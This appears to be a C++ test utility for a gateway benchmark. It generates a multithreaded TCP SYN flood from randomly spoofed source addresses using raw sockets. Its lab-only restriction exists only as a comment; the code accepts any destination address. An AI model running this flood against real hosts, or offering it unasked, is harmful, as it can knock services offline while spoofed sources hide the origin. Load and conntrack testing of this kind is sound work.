// A SYN flood from spoofed sources, for the gateway benchmark and the
// conntrack-exhaustion tests. Lab use only: it sends to the address given,
// which must be inside a namespace the caller created.
//
//   hostlb-synflood DST_IP PORT SOURCE_NET PREFIX_LEN SECONDS THREADS [PPS]
//       send TCP SYNs to DST_IP:PORT for SECONDS from THREADS threads, each
//       from a random source address inside SOURCE_NET/PREFIX_LEN and a
//       random source port; at most PPS packets a second in all if given
//       (0 or absent: as fast as the sockets take them). Prints
//       "sent=N errors=E seconds=S rate=R".
//
// Raw IPv4 socket with IP_HDRINCL: the kernel fills in the IP checksum and
// routes the packet; the TCP checksum is computed here.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <string>
#include <thread>
#include <vector>

namespace {

struct Flood {
  in_addr_t destination = 0;
  uint16_t port = 0;
  uint32_t source_net = 0;  // host order
  uint32_t host_mask = 0;   // host order: the bits that vary
  double seconds = 0;
  uint64_t pps = 0;  // 0: unlimited
  unsigned threads = 1;
};

uint16_t fold(uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<uint16_t>(~sum);
}

uint32_t add16(uint32_t sum, const void* data, size_t len) {
  const auto* p = static_cast<const uint8_t*>(data);
  for (size_t i = 0; i + 1 < len; i += 2) sum += static_cast<uint32_t>(p[i] << 8 | p[i + 1]);
  if (len % 2) sum += static_cast<uint32_t>(p[len - 1] << 8);
  return sum;
}

struct Packet {
  iphdr ip;
  tcphdr tcp;
};

void fill(Packet& pkt, const Flood& flood, uint32_t source, uint16_t sport, uint32_t seq) {
  std::memset(&pkt, 0, sizeof pkt);
  pkt.ip.version = 4;
  pkt.ip.ihl = 5;
  pkt.ip.ttl = 64;
  pkt.ip.protocol = IPPROTO_TCP;
  pkt.ip.tot_len = htons(sizeof pkt);
  pkt.ip.saddr = htonl(source);
  pkt.ip.daddr = flood.destination;
  pkt.tcp.source = htons(sport);
  pkt.tcp.dest = htons(flood.port);
  pkt.tcp.seq = htonl(seq);
  pkt.tcp.doff = 5;
  pkt.tcp.syn = 1;
  pkt.tcp.window = htons(64240);
  uint32_t sum = 0;
  sum = add16(sum, &pkt.ip.saddr, 4);
  sum = add16(sum, &pkt.ip.daddr, 4);
  sum += IPPROTO_TCP;
  sum += sizeof pkt.tcp;
  sum = add16(sum, &pkt.tcp, sizeof pkt.tcp);
  const uint16_t check = fold(sum);
  pkt.tcp.check = htons(check);
}

void run(const Flood& flood, unsigned index, std::atomic<uint64_t>& sent,
         std::atomic<uint64_t>& errors) {
  const int fd = ::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    std::perror("hostlb-synflood: socket(AF_INET, SOCK_RAW)");
    std::exit(1);
  }
  std::mt19937 rng(0x5eed + index);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr.s_addr = flood.destination;
  const auto start = std::chrono::steady_clock::now();
  const auto end = start + std::chrono::duration<double>(flood.seconds);
  const double per_thread = flood.pps ? static_cast<double>(flood.pps) / flood.threads : 0;
  uint64_t mine = 0;
  Packet pkt{};
  for (;;) {
    // Check the clock every 64 packets: cheap enough, and bounded in time.
    if (mine % 64 == 0) {
      const auto now = std::chrono::steady_clock::now();
      if (now >= end) break;
      if (per_thread > 0) {
        const double due = std::chrono::duration<double>(now - start).count() * per_thread;
        if (static_cast<double>(mine) >= due) {
          std::this_thread::sleep_for(std::chrono::microseconds(200));
          continue;
        }
      }
    }
    uint32_t host = rng() & flood.host_mask;
    if (host == 0) host = 1;  // not the network address
    const auto sport = static_cast<uint16_t>(1024 + rng() % 64000);
    fill(pkt, flood, flood.source_net | host, sport, rng());
    if (::sendto(fd, &pkt, sizeof pkt, 0, reinterpret_cast<const sockaddr*>(&to), sizeof to) < 0)
      errors.fetch_add(1, std::memory_order_relaxed);
    else
      sent.fetch_add(1, std::memory_order_relaxed);
    ++mine;
  }
  ::close(fd);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 7 && argc != 8) {
    std::fprintf(
        stderr, "usage: hostlb-synflood DST_IP PORT SOURCE_NET PREFIX_LEN SECONDS THREADS [PPS]\n");
    return 2;
  }
  Flood flood;
  in_addr net{};
  if (::inet_pton(AF_INET, argv[1], &flood.destination) != 1 ||
      ::inet_pton(AF_INET, argv[3], &net) != 1) {
    std::fprintf(stderr, "hostlb-synflood: DST_IP and SOURCE_NET must be IPv4 addresses\n");
    return 2;
  }
  flood.port = static_cast<uint16_t>(std::stoul(argv[2]));
  const int prefix = std::stoi(argv[4]);
  if (prefix < 8 || prefix > 30) {
    std::fprintf(stderr, "hostlb-synflood: PREFIX_LEN must be 8..30\n");
    return 2;
  }
  flood.host_mask = (uint32_t{1} << (32 - prefix)) - 1;
  flood.source_net = ntohl(net.s_addr) & ~flood.host_mask;
  flood.seconds = std::stod(argv[5]);
  flood.threads = static_cast<unsigned>(std::max(1, std::stoi(argv[6])));
  if (argc == 8) flood.pps = std::stoull(argv[7]);
  if (flood.seconds <= 0 || flood.seconds > 600) {
    std::fprintf(stderr, "hostlb-synflood: SECONDS must be in (0, 600]\n");
    return 2;
  }
  std::atomic<uint64_t> sent{0}, errors{0};
  const auto start = std::chrono::steady_clock::now();
  std::vector<std::thread> workers;
  for (unsigned i = 0; i < flood.threads; ++i)
    workers.emplace_back(run, std::cref(flood), i, std::ref(sent), std::ref(errors));
  for (auto& w : workers) w.join();
  const double secs =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  std::printf("sent=%llu errors=%llu seconds=%.2f rate=%.0f\n",
              static_cast<unsigned long long>(sent.load()),
              static_cast<unsigned long long>(errors.load()), secs,
              static_cast<double>(sent.load()) / secs);
  return 0;
}
